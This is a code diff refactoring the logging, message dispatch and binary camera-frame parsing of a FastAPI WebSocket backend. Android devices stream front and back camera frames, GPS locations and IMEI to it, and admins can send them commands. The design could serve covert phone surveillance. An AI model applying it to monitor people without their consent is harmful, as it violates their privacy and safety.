@@ -1,23 +1,56 @@
 """WebSocket connection handler"""
 import json
+import time
+import queue
+import struct
 import asyncio
-from datetime import datetime
-from typing import Dict, Optional, Set
+import logging
+from logging.handlers import QueueHandler, QueueListener
+from typing import Awaitable, Callable, Dict, Optional, Set, Union
 from fastapi import WebSocket, WebSocketDisconnect
 from backend.models import DeviceInfo, CameraFrame, LocationUpdate, DeviceCommand
 from backend.devices.manager import session_manager
 from backend.storage.database import storage
 from backend.devices.registration import get_device_by_token
+from backend.config import WS_LOG_LEVEL
 import base64
 
 
+# Log records are formatted and written by a listener thread, off the event loop.
+# The thread is started and stopped by the app's startup/shutdown hooks
+log = logging.getLogger("backend.websocket")
+# An unknown WS_LOG_LEVEL falls back to INFO instead of failing the import
+log.setLevel(logging.getLevelNamesMapping().get(WS_LOG_LEVEL, logging.INFO))
+log.propagate = False
+_log_queue: queue.SimpleQueue = queue.SimpleQueue()
+log.addHandler(QueueHandler(_log_queue))
+_log_listener = QueueListener(_log_queue, logging.StreamHandler())
+
+
+def start_log_listener():
+    """Start writing queued websocket log records"""
+    _log_listener.start()
+
+
+def stop_log_listener():
+    """Write out remaining log records and stop the listener thread"""
+    _log_listener.stop()
+
+# Binary camera frame header: camera index, 3 pad bytes, width, height, timestamp (ms).
+# The timestamp is signed like the int64 BIGINT column it ends up in
+FRAME_HEADER = struct.Struct("<B3xHHq")
+FRAME_CAMERAS = ("back", "front")
+
+
 class DeviceConnection:
     """Represents a connected device"""
+    __slots__ = ("device_id", "device_name", "websocket", "last_seen", "data")
+    
     def __init__(self, device_id: str, device_name: str, websocket: WebSocket):
         self.device_id = device_id
         self.device_name = device_name
         self.websocket = websocket
-        self.last_seen = datetime.utcnow()
+        self.last_seen = time.time_ns()  # Unix time in nanoseconds
         self.data = {}
 
 
@@ -27,6 +60,14 @@ class WebSocketManager:
     def __init__(self):
         self.device_connections: Dict[str, DeviceConnection] = {}
         self.admin_connections: Set[WebSocket] = set()
+        
+        # Device message type -> handler
+        self._message_handlers: Dict[str, Callable[[str, Dict], Awaitable[None]]] = {
+            "camera_frame": self._handle_camera_frame,
+            "location_update": self._handle_location_update,
+            "system_info": self._handle_system_info,
+            "ping": self._handle_ping,
+        }
     
     async def connect_device(self, device_info: DeviceInfo, websocket: WebSocket):
         """Connect a device"""
@@ -45,12 +86,11 @@ class WebSocketManager:
             "device": session.dict()
         })
         
-        # Detailed logging
-        print(f"[DEVICE_CONNECT] Device connected: {device_info.name} (ID: {device_info.id})")
-        print(f"[DEVICE_CONNECT] Model: {device_info.manufacturer} {device_info.model}")
-        print(f"[DEVICE_CONNECT] Android: {device_info.android_version} (SDK: {device_info.sdk})")
-        print(f"[DEVICE_CONNECT] IMEI: {device_info.imei or 'N/A'}")
-        print(f"[DEVICE_CONNECT] Total connected devices: {len(self.device_connections)}")
+        log.info(
+            "[DEVICE_CONNECT] Device connected: %s (ID: %s), %s %s, Android %s (SDK %s), IMEI: %s. Total connected devices: %d",
+            device_info.name, device_info.id, device_info.manufacturer, device_info.model,
+            device_info.android_version, device_info.sdk, device_info.imei or "N/A", len(self.device_connections)
+        )
         
         return conn
     
@@ -68,8 +108,10 @@ class WebSocketManager:
             })
             
             await storage.log_device_event(device_id, "disconnected")
-            print(f"[DEVICE_DISCONNECT] Device disconnected: {device_name} (ID: {device_id})")
-            print(f"[DEVICE_DISCONNECT] Total connected devices: {len(self.device_connections)}")
+            log.info(
+                "[DEVICE_DISCONNECT] Device disconnected: %s (ID: %s). Total connected devices: %d",
+                device_name, device_id, len(self.device_connections)
+            )
     
     async def connect_admin(self, websocket: WebSocket):
         """Connect an admin"""
@@ -83,92 +125,125 @@ class WebSocketManager:
             "devices": [d.dict() for d in devices]
         })
         
-        print(f"Admin connected. Total admins: {len(self.admin_connections)}")
+        log.info("Admin connected. Total admins: %d", len(self.admin_connections))
     
     async def disconnect_admin(self, websocket: WebSocket):
         """Disconnect an admin"""
         self.admin_connections.discard(websocket)
-        print(f"Admin disconnected. Total admins: {len(self.admin_connections)}")
+        log.info("Admin disconnected. Total admins: %d", len(self.admin_connections))
     
     async def handle_device_message(self, device_id: str, message: Dict):
         """Handle message from device"""
         msg_type = message.get("type")
+        handler = self._message_handlers.get(msg_type)
         
-        if msg_type == "camera_frame":
-            await self._handle_camera_frame(device_id, message)
-        elif msg_type == "location_update":
-            await self._handle_location_update(device_id, message)
-        elif msg_type == "system_info":
-            await self._handle_system_info(device_id, message)
-        elif msg_type == "ping":
-            # Update last seen
-            if device_id in self.device_connections:
-                self.device_connections[device_id].last_seen = datetime.utcnow()
+        if handler is not None:
+            await handler(device_id, message)
         else:
-            # Log unknown message types
-            device_name = "Unknown"
-            if device_id in self.device_connections:
-                device_name = self.device_connections[device_id].device_name
-            print(f"[UNKNOWN_MESSAGE] Received unknown message type '{msg_type}' from {device_name} (ID: {device_id})")
-            print(f"[UNKNOWN_MESSAGE] Message keys: {list(message.keys())}")
+            log.warning(
+                "[UNKNOWN_MESSAGE] Received unknown message type '%s' from %s (ID: %s), keys: %s",
+                msg_type, self._device_name(device_id), device_id, list(message.keys())
+            )
+    
+    async def _handle_ping(self, device_id: str, message: Dict):
+        """Handle ping from device"""
+        conn = self.device_connections.get(device_id)
+        if conn is not None:
+            conn.last_seen = time.time_ns()
+    
+    async def handle_device_frame(self, device_id: str, data: bytes):
+        """Handle a binary camera frame from device (FRAME_HEADER + raw JPEG)"""
+        try:
+            camera_idx, width, height, timestamp = FRAME_HEADER.unpack_from(data)
+            camera = FRAME_CAMERAS[camera_idx]
+        except (struct.error, IndexError) as header_error:
+            log.error("[CAMERA_FRAME_ERROR] Invalid binary frame header from device %s: %s", device_id, header_error)
+            return
+        if len(data) == FRAME_HEADER.size:
+            log.error("[CAMERA_FRAME_ERROR] Empty binary frame from device %s", device_id)
+            return
+        
+        # Slice the JPEG payload through a memoryview to avoid copying it
+        await self._save_camera_frame(
+            device_id, camera, memoryview(data)[FRAME_HEADER.size:], width, height, timestamp
+        )
     
     async def _handle_camera_frame(self, device_id: str, message: Dict):
         """Handle camera frame from device"""
         try:
             frame = CameraFrame(**message)
             
-            # Decode and save frame
+            # Decode frame
             try:
                 frame_bytes = base64.b64decode(frame.data)
-                frame_size = len(frame_bytes)
             except Exception as decode_error:
-                print(f"[CAMERA_FRAME_ERROR] Failed to decode Base64 for device {device_id}: {decode_error}")
-                print(f"[CAMERA_FRAME_ERROR] Base64 data length: {len(frame.data)}")
+                log.error(
+                    "[CAMERA_FRAME_ERROR] Failed to decode Base64 for device %s: %s (data length: %d)",
+                    device_id, decode_error, len(frame.data)
+                )
                 raise
-            
+        except Exception:
+            log.exception(
+                "[CAMERA_FRAME_ERROR] Error handling camera frame from device %s, message keys: %s",
+                device_id, list(message.keys())
+            )
+            return
+        
+        await self._save_camera_frame(
+            device_id, frame.camera, frame_bytes, frame.width, frame.height, frame.timestamp
+        )
+    
+    async def _save_camera_frame(
+        self,
+        device_id: str,
+        camera: str,
+        frame_bytes: Union[bytes, memoryview],
+        width: int,
+        height: int,
+        timestamp: int
+    ):
+        """Save a decoded camera frame and notify admins"""
+        try:
             # Save to database
             saved_frame = await storage.save_camera_frame(
                 device_id, 
-                frame.camera, 
+                camera, 
                 frame_bytes,
-                frame.width,
-                frame.height,
-                frame.timestamp
+                width,
+                height,
+                timestamp
             )
             
             # Update session
             await session_manager.update_device_data(device_id, {
-                "current_camera": frame.camera
+                "current_camera": camera
             })
             
             # Broadcast to admins (send only metadata, not full frame for performance)
             await self.broadcast_to_admins({
                 "type": "camera_frame",
                 "device_id": device_id,
-                "camera": frame.camera,
-                "timestamp": frame.timestamp,
-                "width": frame.width,
-                "height": frame.height
+                "camera": camera,
+                "timestamp": timestamp,
+                "width": width,
+                "height": height
             })
             
-            # Log successful save
-            device_name = "Unknown"
-            if device_id in self.device_connections:
-                device_name = self.device_connections[device_id].device_name
-            print(f"[CAMERA_FRAME] Saved frame from {device_name} (ID: {device_id})")
-            print(f"[CAMERA_FRAME] Camera: {frame.camera}, Size: {frame_size} bytes, Resolution: {frame.width}x{frame.height}")
-            print(f"[CAMERA_FRAME] Timestamp: {frame.timestamp}, Frame ID: {saved_frame.id}")
+            if log.isEnabledFor(logging.DEBUG):
+                log.debug(
+                    "[CAMERA_FRAME] Saved frame from %s (ID: %s): camera %s, %d bytes, %dx%d, timestamp %s, frame ID %s",
+                    self._device_name(device_id), device_id, camera, len(frame_bytes),
+                    width, height, timestamp, saved_frame.id
+                )
             
-        except Exception as e:
-            import traceback
-            print(f"[CAMERA_FRAME_ERROR] Error handling camera frame from device {device_id}: {e}")
-            print(f"[CAMERA_FRAME_ERROR] Traceback: {traceback.format_exc()}")
-            print(f"[CAMERA_FRAME_ERROR] Message keys: {list(message.keys())}")
+        except Exception:
+            log.exception("[CAMERA_FRAME_ERROR] Error saving camera frame from device %s", device_id)
     
     async def _handle_location_update(self, device_id: str, message: Dict):
         """Handle location update from device"""
         try:
             location = LocationUpdate(**message)
+            location_data = location.model_dump()
             
             # Save location
             saved_location = await storage.save_location(
@@ -181,30 +256,29 @@ class WebSocketManager:
             
             # Update session
             await session_manager.update_device_data(device_id, {
-                "location": location.dict()
+                "location": location_data
             })
             
             # Broadcast to admins
             await self.broadcast_to_admins({
                 "type": "location_update",
                 "device_id": device_id,
-                "location": location.dict()
+                "location": location_data
             })
             
-            # Log successful save
-            device_name = "Unknown"
-            if device_id in self.device_connections:
-                device_name = self.device_connections[device_id].device_name
-            accuracy_str = f"{location.accuracy:.1f}m" if location.accuracy else "N/A"
-            print(f"[LOCATION_UPDATE] Saved location from {device_name} (ID: {device_id})")
-            print(f"[LOCATION_UPDATE] Coordinates: {location.lat:.6f}, {location.lon:.6f}, Accuracy: {accuracy_str}")
-            print(f"[LOCATION_UPDATE] Timestamp: {location.timestamp}, Location ID: {saved_location.id}")
+            if log.isEnabledFor(logging.DEBUG):
+                log.debug(
+                    "[LOCATION_UPDATE] Saved location from %s (ID: %s): %.6f, %.6f, accuracy %s, timestamp %s, location ID %s",
+                    self._device_name(device_id), device_id, location.lat, location.lon,
+                    f"{location.accuracy:.1f}m" if location.accuracy else "N/A",
+                    location.timestamp, saved_location.id
+                )
             
-        except Exception as e:
-            import traceback
-            print(f"[LOCATION_UPDATE_ERROR] Error handling location update from device {device_id}: {e}")
-            print(f"[LOCATION_UPDATE_ERROR] Traceback: {traceback.format_exc()}")
-            print(f"[LOCATION_UPDATE_ERROR] Message: {message}")
+        except Exception:
+            log.exception(
+                "[LOCATION_UPDATE_ERROR] Error handling location update from device %s, message: %s",
+                device_id, message
+            )
     
     async def _handle_system_info(self, device_id: str, message: Dict):
         """Handle system info from device"""
@@ -226,24 +300,21 @@ class WebSocketManager:
                 "data": system_info
             })
             
-            # Log successful save
-            device_name = "Unknown"
-            if device_id in self.device_connections:
-                device_name = self.device_connections[device_id].device_name
-            battery = system_info.get("battery_level", "N/A")
-            is_charging = system_info.get("is_charging", False)
-            memory = system_info.get("memory_usage", "N/A")
-            storage_usage = system_info.get("storage_usage", "N/A")
-            print(f"[SYSTEM_INFO] Saved system info from {device_name} (ID: {device_id})")
-            print(f"[SYSTEM_INFO] Battery: {battery}% {'(charging)' if is_charging else '(not charging)'}")
-            print(f"[SYSTEM_INFO] Memory usage: {memory}, Storage usage: {storage_usage}")
-            print(f"[SYSTEM_INFO] Timestamp: {system_info.get('timestamp', 'N/A')}, Event ID: {saved_event.id}")
+            if log.isEnabledFor(logging.DEBUG):
+                log.debug(
+                    "[SYSTEM_INFO] Saved system info from %s (ID: %s): battery %s%% %s, memory usage %s, storage usage %s, timestamp %s, event ID %s",
+                    self._device_name(device_id), device_id,
+                    system_info.get("battery_level", "N/A"),
+                    "(charging)" if system_info.get("is_charging", False) else "(not charging)",
+                    system_info.get("memory_usage", "N/A"), system_info.get("storage_usage", "N/A"),
+                    system_info.get("timestamp", "N/A"), saved_event.id
+                )
             
-        except Exception as e:
-            import traceback
-            print(f"[SYSTEM_INFO_ERROR] Error handling system info from device {device_id}: {e}")
-            print(f"[SYSTEM_INFO_ERROR] Traceback: {traceback.format_exc()}")
-            print(f"[SYSTEM_INFO_ERROR] Message: {message}")
+        except Exception:
+            log.exception(
+                "[SYSTEM_INFO_ERROR] Error handling system info from device %s, message: %s",
+                device_id, message
+            )
     
     async def send_command(self, device_id: str, command: DeviceCommand) -> bool:
         """Send command to device"""
@@ -261,23 +332,31 @@ class WebSocketManager:
             await storage.log_device_event(device_id, "command_sent", command.dict())
             return True
         except Exception as e:
-            print(f"Error sending command to device {device_id}: {e}")
+            log.error("Error sending command to device %s: %s", device_id, e)
             return False
     
     async def broadcast_to_admins(self, message: Dict, exclude: Optional[WebSocket] = None):
         """Broadcast message to all connected admins"""
-        disconnected = []
+        targets = [ws for ws in self.admin_connections if ws is not exclude]
+        if not targets:
+            return
         
-        for admin_ws in self.admin_connections:
-            if admin_ws != exclude:
-                try:
-                    await admin_ws.send_json(message)
-                except Exception:
-                    disconnected.append(admin_ws)
+        # Serialize once and send to all admins concurrently
+        payload = json.dumps(message, separators=(",", ":"), ensure_ascii=False, default=str)
+        results = await asyncio.gather(
+            *(ws.send_text(payload) for ws in targets),
+            return_exceptions=True
+        )
         
         # Remove disconnected admins
-        for ws in disconnected:
-            self.admin_connections.discard(ws)
+        for ws, result in zip(targets, results):
+            if isinstance(result, Exception):
+                self.admin_connections.discard(ws)
+    
+    def _device_name(self, device_id: str) -> str:
+        """Get the name of a connected device for log messages"""
+        conn = self.device_connections.get(device_id)
+        return conn.device_name if conn else "Unknown"
     
     def get_device_connection(self, device_id: str) -> Optional[DeviceConnection]:
         """Get device connection"""